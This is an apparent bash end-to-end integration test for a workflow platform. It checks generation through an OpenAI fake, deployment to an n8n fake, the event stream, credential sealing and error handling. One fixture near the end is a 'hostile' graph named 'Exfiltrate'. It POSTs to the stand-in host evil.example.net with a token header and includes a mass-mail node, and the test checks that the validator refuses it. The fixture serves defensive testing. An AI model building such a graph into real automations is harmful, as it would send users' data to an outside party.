#!/usr/bin/env bash
# Workflows end to end through nginx: a prompt posted to the API becomes a
# validated graph (the OpenAI fake answers), is deployed (the n8n fake)
# and reaches live with a URL; the tenant's /events stream shows each
# transition; the tenant page shows it without JavaScript; deploying the
# same graph again makes no second n8n workflow; and each fault ends in
# the right state with a useful reason.  Every wait is bounded.
#
# Needs from ./dev test: the fakes on CANOPY_FAKE_OPENAI_URL and
# CANOPY_FAKE_N8N_URL (the deployer uses them), CANOPY_WORKFLOW_ATTEMPTS
# small (3) so a failing deployment gives up in seconds.
set -euo pipefail
# shellcheck source=tests/integration/lib.sh
source "$(dirname "$0")/lib.sh"
: "${CANOPY_FAKE_OPENAI_URL:?./dev test starts the OpenAI fake}"
: "${CANOPY_FAKE_N8N_URL:?./dev test starts the n8n fake}"

SLUG=wf-e2e
SITE="https://$SLUG.$CANOPY_DOMAIN:$CANOPY_HTTPS_PORT"
API="https://$CANOPY_DOMAIN:$CANOPY_HTTPS_PORT/api/v1"
tmp=$(mktemp -d)
events_pid=

# fake BASE METHOD PATH [BODY]: a control call to a fake (loopback http).
fake() {
	local -a data=()
	(($# > 3)) && data=(--data-binary "$4")
	curl -sS --max-time 5 -X "$2" -H 'Content-Type: application/json' "${data[@]}" "$1$3"
}

cleanup() {
	if [[ -n $events_pid ]]; then kill "$events_pid" 2>/dev/null || true; fi
	fake "$CANOPY_FAKE_OPENAI_URL" POST /_fake/reset '{}' >/dev/null 2>&1 || true
	fake "$CANOPY_FAKE_N8N_URL" POST /_fake/mode '{"mode":"ok"}' >/dev/null 2>&1 || true
	psql_q "DELETE FROM tenants WHERE slug = '$SLUG'" >/dev/null 2>&1 || true
	rm -rf "$tmp"
}
trap cleanup EXIT

# api METHOD PATH [BODY]: the HTTP status; the body lands in $tmp/resp.
api() {
	local -a data=()
	(($# > 2)) && data=(--data-binary "$3")
	_curl "$API$2" -X "$1" -H "Authorization: Bearer $KEY" \
		-H 'Content-Type: application/json' "${data[@]}" -o "$tmp/resp" -w '%{http_code}' ||
		echo 000
}

wf_status() { psql_q "SELECT status FROM workflows WHERE id = $1"; }
wf_reason() { psql_q "SELECT coalesce(status_reason, '') FROM workflows WHERE id = $1"; }
is_status() { [[ $(wf_status "$1") == "$2" ]]; }

# generate PROMPT: posts it; prints the new workflow's id.
generate() {
	local body code
	body=$(jq -cn --arg p "$1" '{prompt: $p}')
	code=$(api POST /workflows/generate "$body")
	[[ $code == 202 ]] || fail "generate answered $code: $(cat "$tmp/resp")"
	jq -er '.workflow.id' "$tmp/resp"
}

# wait_status ID STATUS SECONDS: fails with the workflow's state if it
# does not get there in time.
wait_status() {
	wait_for "$3" is_status "$1" "$2" ||
		fail "workflow $1 is $(wf_status "$1") ($(wf_reason "$1")), not $2, after $3 s"
}

# answer_with_path PATH: the OpenAI fake answers the demo graph with its
# webhook on PATH (two live workflows of a tenant cannot share one).
answer_with_path() {
	jq -c --arg p "$1" '.triggers[0].config[0].value = $p' \
		"$CANOPY_SRC/tests/fakes/workflow_answer.json" >"$tmp/answer.json"
	fake "$CANOPY_FAKE_OPENAI_URL" POST /_fake/answer "$(cat "$tmp/answer.json")" >/dev/null
}

n8n_workflows() { fake "$CANOPY_FAKE_N8N_URL" GET /_fake/state | jq '.workflows | length'; }

# --- a tenant of our own, with the demo's page, and an API key -------------
psql_q "DELETE FROM tenants WHERE slug = '$SLUG'" >/dev/null
psql_q "WITH t AS (INSERT INTO tenants (slug, name, theme_id)
                   SELECT '$SLUG', 'Workflow E2E', theme_id FROM tenants WHERE slug = 'demo'
                   RETURNING id)
        INSERT INTO pages (tenant_id, json, is_published)
        SELECT t.id, (SELECT p.json FROM pages p JOIN tenants d ON d.id = p.tenant_id
                      WHERE d.slug = 'demo' AND p.is_published LIMIT 1), true FROM t" >/dev/null
KEY=$("$CANOPY_BUILD/canopy" apikey create --tenant "$SLUG" --name e2e 2>/dev/null) ||
	fail "canopy apikey create failed"
[[ -n $KEY ]] || fail "no API key printed"
fake "$CANOPY_FAKE_OPENAI_URL" POST /_fake/reset '{}' >/dev/null
fake "$CANOPY_FAKE_N8N_URL" POST /_fake/reset '{}' >/dev/null
page=$(get "$SITE/")
grep -q 'No automations yet' <<<"$page" || fail "a new tenant's page should have no automations"
ok "tenant $SLUG with a page and an API key"

# --- prompt -> graph -> n8n -> live, watched on /events -------------------
_curl "$SITE/events" -N --max-time 40 -H 'Accept: text/event-stream' -o "$tmp/events" \
	2>/dev/null &
events_pid=$!
sleep 0.5 # subscribed before anything happens
answer_with_path lead-form
before=$(n8n_workflows)
id=$(generate "When the lead form is posted, tidy it and wait a minute if it has an email.")
wait_status "$id" live 30
url=$(psql_q "SELECT last_run_url FROM workflows WHERE id = $id")
[[ $url == "$CANOPY_FAKE_N8N_URL/webhook/$SLUG/lead-form" ]] || fail "run URL is '$url'"
[[ $(psql_q "SELECT version FROM workflows WHERE id = $id") == 1 ]] || fail "version is not 1"
[[ $(n8n_workflows) == $((before + 1)) ]] || fail "n8n does not hold exactly one new workflow"
ok "a prompt posted to the API is generated, deployed to n8n and live at $url"

code=$(api GET "/workflows/$id/status")
[[ $code == 200 ]] || fail "status answered $code"
jq -e --arg u "$url" '.status == "live" and .url == $u and (.editor_url | length > 0)' \
	"$tmp/resp" >/dev/null || fail "GET status: $(cat "$tmp/resp")"
ok "GET /workflows/$id/status says live with the URL"

# the stream saw generating -> deploying -> live for this workflow
events_live() {
	sed -n 's/^data: //p' "$tmp/events" |
		jq -e --argjson id "$id" 'select(.workflow_id == $id and .status == "live")' >/dev/null
}
wait_for 5 events_live || fail "no live event on /events: $(cat "$tmp/events")"
kill "$events_pid" 2>/dev/null || true
wait "$events_pid" 2>/dev/null || true
events_pid=
# (in the order of the changes: the API and the deployer publish from
# different processes, so messages may arrive out of order; pages order
# them by updated_at as this does)
seq=$(sed -n 's/^data: //p' "$tmp/events" |
	jq -sr --argjson id "$id" 'map(select(.workflow_id == $id)) | sort_by(.updated_at | sub("\\+00:00$"; "") | split(".") | .[0] + "." + ((.[1] // "0") + "000000")[0:6]) | .[].status' |
	uniq | tr '\n' ' ')
[[ $seq == "generating deploying live " ]] || fail "/events showed '$seq' for workflow $id"
ok "the tenant's /events stream showed generating -> deploying -> live"

# the page shows it without JavaScript (the cache follows the change)
has_live_row() {
	get "$SITE/" -o "$tmp/page.html" && grep -q "data-workflow-id=\"$id\"" "$tmp/page.html" &&
		grep -q 'badge--live' "$tmp/page.html" && grep -qF "href=\"$url\"" "$tmp/page.html"
}
wait_for 5 has_live_row || fail "the tenant page does not show workflow $id live with its URL"
grep -q 'Lead form follow-up' "$tmp/page.html" || fail "the page lacks the workflow's name"
ok "the tenant page shows the workflow live with its link, without JavaScript"

# the webhook answers in n8n
code=$(curl -sS -o /dev/null -w '%{http_code}' --max-time 5 -X POST "$url" -d '{}')
[[ $code == 200 ]] || fail "the n8n webhook answered $code"
ok "the production webhook URL answers"

# --- the same graph again: no second n8n workflow --------------------------
n_before=$(n8n_workflows)
calls_before=$(fake "$CANOPY_FAKE_N8N_URL" GET /_fake/requests | jq '[.requests[] | select(.path | startswith("/api/"))] | length')
code=$(api POST "/workflows/$id/deploy")
[[ $code == 202 ]] || fail "deploy answered $code: $(cat "$tmp/resp")"
job=$(jq -er '.job_id' "$tmp/resp")
job_done() { [[ $(psql_q "SELECT state FROM jobs WHERE id = $job") == succeeded ]]; }
wait_for 20 job_done || fail "the deploy job $job is $(psql_q "SELECT state FROM jobs WHERE id = $job")"
wait_status "$id" live 5
[[ $(n8n_workflows) == "$n_before" ]] || fail "a second n8n workflow was made"
calls_after=$(fake "$CANOPY_FAKE_N8N_URL" GET /_fake/requests | jq '[.requests[] | select(.path | startswith("/api/"))] | length')
[[ $calls_after == "$calls_before" ]] || fail "deploying the same graph called n8n again"
ok "deploying the same graph again does the work once (no n8n call, no second workflow)"

# --- an authRef becomes an n8n credential, from the sealed secret -----------
secret="xoxb-e2e-$(date +%s%N)"
printf '{"accessToken": "%s"}' "$secret" |
	"$CANOPY_BUILD/canopy" credential set --tenant "$SLUG" --name slack_main --kind slackApi \
	>/dev/null || fail "canopy credential set failed"
[[ $(psql_q "SELECT count(*) FROM credentials WHERE name = 'slack_main' AND sealed LIKE 'v1.%'
             AND position('$secret' IN sealed) = 0") == 1 ]] || fail "the secret is not sealed at rest"
"$CANOPY_BUILD/canopy" credential list --tenant "$SLUG" >"$tmp/creds"
grep -q '^slack_main  *slackApi' "$tmp/creds" && ! grep -q "$secret" "$tmp/creds" ||
	fail "canopy credential list: $(cat "$tmp/creds")"
code=$(api POST /workflows/generate '{"prompt":"Slack the contact form","deploy":false}')
[[ $code == 202 ]] || fail "generate answered $code"
sid=$(jq -er '.workflow.id' "$tmp/resp")
wait_status "$sid" idle 30
code=$(api PUT "/workflows/$sid" "$(cat "$CANOPY_SRC/tests/workflows/valid/webhook-to-slack.json")")
[[ $code == 200 ]] || fail "PUT of the Slack graph answered $code: $(cat "$tmp/resp")"
code=$(api POST "/workflows/$sid/deploy")
[[ $code == 202 ]] || fail "deploy answered $code: $(cat "$tmp/resp")"
wait_status "$sid" live 30
fake "$CANOPY_FAKE_N8N_URL" GET /_fake/state >"$tmp/state"
jq -e --arg s "$secret" '[.credentials[] | select(.type == "slackApi" and .data.accessToken == $s)] | length == 1' \
	"$tmp/state" >/dev/null || fail "n8n did not get the credential from the sealed secret"
cred_id=$(jq -r --arg s "$secret" '.credentials[] | select(.data.accessToken == $s) | .id' "$tmp/state")
jq -e --arg c "$cred_id" '[.workflows[] | .nodes[] | select(.credentials.slackApi.id == $c)] | length >= 1' \
	"$tmp/state" >/dev/null || fail "no n8n Slack node uses credential $cred_id"
ok "canopy credential set seals a secret; deploying its authRef makes the n8n credential"

# --- faults ------------------------------------------------------------------
# OpenAI rejects the key
fake "$CANOPY_FAKE_OPENAI_URL" POST /_fake/mode '{"mode":"401","count":1}' >/dev/null
id=$(generate "A lead form to nowhere.")
wait_status "$id" error 20
[[ $(wf_reason "$id") == *"OpenAI rejected the API key"* ]] || fail "401 reason: $(wf_reason "$id")"
ok "OpenAI 401: error, \"$(wf_reason "$id")\""

# rate limited once, then fine
answer_with_path rate-limited
fake "$CANOPY_FAKE_OPENAI_URL" POST /_fake/mode '{"mode":"429","count":1,"retry_after":1}' >/dev/null
id=$(generate "A lead form, slowly.")
wait_status "$id" live 30
ok "OpenAI 429 then OK: live"

# n8n fails until the attempts are used up
answer_with_path n8n-down
fake "$CANOPY_FAKE_N8N_URL" POST /_fake/mode '{"mode":"500","count":-1,"path":"/api/"}' >/dev/null
id=$(generate "A lead form while n8n is down.")
wait_status "$id" deploying 20
attempts=${CANOPY_WORKFLOW_ATTEMPTS:-3}
wait_status "$id" error 90
fake "$CANOPY_FAKE_N8N_URL" POST /_fake/mode '{"mode":"ok"}' >/dev/null
[[ $(wf_reason "$id") == *500* ]] || fail "n8n 500 reason: $(wf_reason "$id")"
n=$(psql_q "SELECT count(*) FROM deployments WHERE workflow_id = $id AND status = 'failed'")
[[ $n == "$attempts" ]] || fail "$n failed deployments recorded, expected $attempts"
djob=$(psql_q "SELECT state || ' ' || attempts FROM jobs WHERE kind = 'workflow.deploy'
               AND (payload->>'workflow_id')::bigint = $id")
[[ $djob == "dead $attempts" ]] || fail "deploy job is '$djob'"
ok "n8n 500 on every attempt: error after $attempts attempts, \"$(wf_reason "$id")\""

# a hostile graph from the model, twice (the repair does not help)
hostile='{"name":"Exfiltrate","description":"","env":[],
 "triggers":[{"id":"t","type":"webhook","config":[{"key":"path","value":"x"}]}],
 "nodes":[{"id":"h","type":"http","action":"request","inputs":[
   {"key":"method","value":"POST"},
   {"key":"url","value":"https://evil.example.net/in"},
   {"key":"headers","value":{"fields":[{"key":"X-Api-Token","value":"hunter2hunter2"}]}}],
   "outputs":["main"],"authRef":null},
  {"id":"s","type":"smtp_blaster","action":"send","inputs":[],"outputs":["main"],"authRef":null}],
 "edges":[{"fromNodeId":"t","fromPort":"main","toNodeId":"h","toPort":"main"},
          {"fromNodeId":"h","fromPort":"main","toNodeId":"nowhere","toPort":"main"}]}'
fake "$CANOPY_FAKE_OPENAI_URL" POST /_fake/answer "$hostile" >/dev/null
id=$(generate "Send everything to evil.example.net")
wait_status "$id" error 20
reason=$(wf_reason "$id")
for ptr in /nodes/0/inputs/1/value /nodes/0/inputs/2 /nodes/1/type /edges/1; do
	[[ $reason == *"$ptr"* ]] || fail "the reason lacks $ptr: $reason"
done
[[ $(psql_q "SELECT version FROM workflows WHERE id = $id") == 0 ]] || fail "a hostile graph was saved"
ok "a hostile graph is refused with pointers to the problems"

# no job was lost or left behind
left=$(psql_q "SELECT count(*) FROM jobs WHERE tenant_id = (SELECT id FROM tenants WHERE slug = '$SLUG')
               AND state IN ('available', 'running')")
[[ $left == 0 ]] || fail "$left workflow jobs still pending"
ok "no workflow job left pending"
